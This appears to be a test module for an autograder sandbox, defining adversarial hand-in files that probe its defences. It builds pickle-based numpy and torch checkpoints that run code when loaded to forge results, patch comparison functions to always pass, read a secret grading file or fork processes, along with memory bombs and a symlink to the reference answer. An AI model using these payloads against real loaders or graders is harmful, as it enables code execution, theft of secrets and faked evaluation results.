"""Checkpoints: files to hand in that are programs, bombs, or not there."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import numpy as np

from autograder.sandbox.defences import Defence
from tests.attacks.attack import (
    CRASHED,
    FAILED,
    NOT_ATTEMPTED,
    OUT_OF_MEMORY,
    Attack,
    Handed,
    Layer,
    Own,
    zipped,
)
from tests.attacks.course import VAULT

FILES = (Defence.FILES, Defence.LANDLOCK)
POLICY, NETWORK = "policy.npz", "network.pt"


class _Run:
    """Pickles as a call of ``exec``."""

    def __init__(self, code: str, value: str = "{}") -> None:
        self.code = f"exec({code!r}) or ({value})"

    def __reduce__(self) -> tuple[Any, ...]:
        return eval, (self.code,)


def pickled_table(code: str, value: str) -> bytes:
    """Return an npz whose array is a pickle that runs code and comes to a value."""
    return zipped({"actions.npy": _header("|O", "(5,)") + pickle.dumps(_Run(code, value))})


def _header(dtype: str, shape: str) -> bytes:
    text = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}"
    text += " " * (63 - (len(text) + 10) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode()


def pickled_network(code: str, value: str = "None") -> bytes:
    """Return a checkpoint of torch, of the old format, whose pickle runs code and comes to a value."""
    return _as_zip(pickle.dumps(_Run(code, value)))


def _as_zip(data: bytes) -> bytes:
    """Wrap a pickle as torch.save does."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", data)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
    return out.getvalue()


def vault(tries: str, *defences: Layer, question: str, outcome: str = FAILED, **more: Any) -> Attack:
    """Return an attack by a file that is handed in."""
    return Attack(tries, defences, course=VAULT, **{"expected": {question: outcome}, **more})


_FORGE = "import os; open('results.json', 'w').write('{}'); os._exit(0)"
_PLACE = "import os\nos.environ['PLACE'] = '@ROOT@'"  # a file does not know where it will be read; its notebook tells it
_STEAL = "open(__import__('os').environ['PLACE'] + '/solutions/vault/grading.toml').read()"
_RIGHT_TABLE = "__import__('numpy').array([3, 0, 2, 4, 1])"
_RIGHT_NETWORK = "{'weight': __import__('torch').tensor([[1.0], [2.0]])}"

_PROGRAMS = {
    "a table that exits": vault("hands in a table that leaves the process with success when it is read", Own.BOUNDARY,
                                question="2.1", outcome=CRASHED, files={POLICY: pickled_table(_FORGE, "0")}),
    "a network that exits": vault("hands in a network that leaves the process with success when it is read", Own.BOUNDARY,
                                  question="2.2", outcome=CRASHED, files={NETWORK: pickled_network(_FORGE)}),
    "a table that patches": vault(
        "hands in a table that replaces the comparison of whoever reads it", Own.BOUNDARY, question="2.1",
        files={POLICY: pickled_table("import sys, numpy\nfor m in list(sys.modules.values()):\n    hasattr(m, 'expect_equal') and setattr(m, 'expect_equal', lambda *a, **k: None)\nnumpy.all = lambda *a, **k: True",
                                     "__import__('numpy').zeros(5)")},
    ),
    "a network that patches": vault(
        "hands in a network that makes torch's comparisons say yes", Own.BOUNDARY, question="2.2",
        files={NETWORK: pickled_network("import torch\ntorch.allclose = lambda *a, **k: True", "{'weight': __import__('torch').zeros(2, 1)}")},
        points={"2.2": 1.0},
    ),
    "a table that reads": vault("hands in a table that is right only if it can read a secret while it is read", *FILES,
                                question="2.1", above=_PLACE, files={POLICY: pickled_table("1", f"{_STEAL} and {_RIGHT_TABLE}")}),
    "a network that reads": vault("hands in a network that is right only if it can read a secret", *FILES, question="2.2",
                                  above=_PLACE, files={NETWORK: pickled_network("1", f"{_STEAL} and {_RIGHT_NETWORK}")}),
    "a network that forks": vault(
        "hands in a network that starts a process", Defence.SECCOMP, question="2.2",
        files={NETWORK: pickled_network(
            "import ctypes, os\npid = ctypes.CDLL(None).fork()\npid == 0 and os._exit(0)\nassert pid > 0\nos.waitpid(pid, 0)", _RIGHT_NETWORK)},
    ),
    "a plain pickle": vault("hands in a pickle under the name of a table", Own.BOUNDARY, question="2.1", outcome=CRASHED,
                            files={POLICY: pickle.dumps(_Run(_FORGE))}),
}  # fmt: skip


def _bomb() -> bytes:
    out = io.BytesIO()
    np.savez_compressed(out, actions=np.zeros(40 << 20))  # 320 MB
    return out.getvalue()


def _large(notebook: bytes, files: Mapping[str, bytes], outside: Path) -> Handed:
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", compresslevel=1) as archive:
        table = io.BytesIO()
        np.savez(table, actions=(3 + 2 * np.arange(5)) % 5, padding=np.zeros(70 << 20, np.uint8))
        padded = {**files, POLICY: table.getvalue()}
        for name, data in {"vault.ipynb": notebook, **padded}.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return Handed(out.getvalue(), ".tar.gz")


def _without_policy(notebook: bytes, files: Mapping[str, bytes], outside: Path) -> Handed:
    return Handed(zipped({"vault.ipynb": notebook, NETWORK: files[NETWORK]}))


def _linked_policy(notebook: bytes, files: Mapping[str, bytes], outside: Path) -> Handed:
    """Hand in a link where the table belongs; it leads to the right one, beside the reference."""
    import stat

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("vault.ipynb", notebook)
        archive.writestr(NETWORK, files[NETWORK])
        link = zipfile.ZipInfo(POLICY)
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, str(outside.parents[0] / "answer" / POLICY))
    (outside.parents[0] / "answer").mkdir(exist_ok=True)
    (outside.parents[0] / "answer" / POLICY).write_bytes(files[POLICY])
    return Handed(out.getvalue())


_SIZES = {
    "a bomb in a table": vault("hands in a table that is 320 megabytes once it is read", Defence.MEMORY_LIMIT, Defence.CPU_LIMIT,
                               Defence.WALL_LIMIT, question="2.1", outcome=OUT_OF_MEMORY,
                               files={POLICY: _bomb()}, wins={"2.1": FAILED}),
    "a claimed shape": vault("hands in a table that claims 400 megabytes and holds none", Defence.MEMORY_LIMIT, question="2.1",
                             outcome=OUT_OF_MEMORY, wins={"2.1": FAILED}, files={POLICY: zipped({"actions.npy": _header("<f8", "(52428800,)")})}),
    "a large file": vault("hands in a table of seventy megabytes", Own.ARTIFACT, question="2.1", outcome=NOT_ATTEMPTED,
                          pack=_large, says="was left out"),
    "a file made while grading": vault(
        "makes the file while it is graded that it should have trained and handed in", Own.ARTIFACT, question="2.1",
        outcome=NOT_ATTEMPTED, pack=_without_policy,
        above="np.savez('policy.npz', actions=(3 + 2 * np.arange(5)) % 5)", says="was not handed in",
    ),
    "a link to the answer": vault("hands in a link to the reference's file", Own.INTAKE, question="2.1", outcome=NOT_ATTEMPTED,
                                  pack=_linked_policy, says="is a symbolic link"),
}  # fmt: skip

ATTACKS: dict[str, Attack] = {**_PROGRAMS, **_SIZES}
